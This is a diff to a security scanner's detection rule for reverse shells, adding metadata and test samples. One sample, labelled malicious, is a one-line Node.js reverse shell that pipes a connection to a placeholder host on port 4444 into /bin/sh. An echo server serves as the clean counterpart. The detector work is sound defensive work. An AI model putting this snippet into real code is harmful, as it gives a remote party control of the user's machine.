@@ -1,4 +1,3 @@
-import { codeSightings } from '../traces';
 import type { Rule } from '../rule';
 
 export const codeReverseShell: Rule = {
@@ -7,6 +6,32 @@ export const codeReverseShell: Rule = {
   kind: 'code',
   severity: 'critical',
   verdict: 'malicious',
+  tactic: 'command-and-control',
+  capabilities: ['network', 'subprocess'],
+  languages: ['javascript', 'python'],
   summary: 'A shell is given a network connection for its input and output.',
-  judge: (facts) => codeSightings(facts, 'gives a shell to whoever is on the other end', 'reverse-shell'),
+  message: 'gives a shell to whoever is on the other end',
+  pattern: { where: 'code', any: ['reverse-shell'] },
+  samples: {
+    hits: [
+      {
+        what: 'a shell tied to a connection',
+        format: 'tarball',
+        files: {
+          'index.js':
+            'const sh = require("child_process").spawn("/bin/sh", []); require("net").connect(4444, "x.invalid").pipe(sh.stdin)',
+        },
+        verdict: 'malicious',
+      },
+    ],
+    ignores: [
+      {
+        what: 'an echo server',
+        format: 'tarball',
+        files: { 'index.js': 'require("net").createServer((c) => c.pipe(c)).listen(0)' },
+        why: 'A connection without a shell behind it.',
+        verdict: 'clean',
+      },
+    ],
+  },
 };
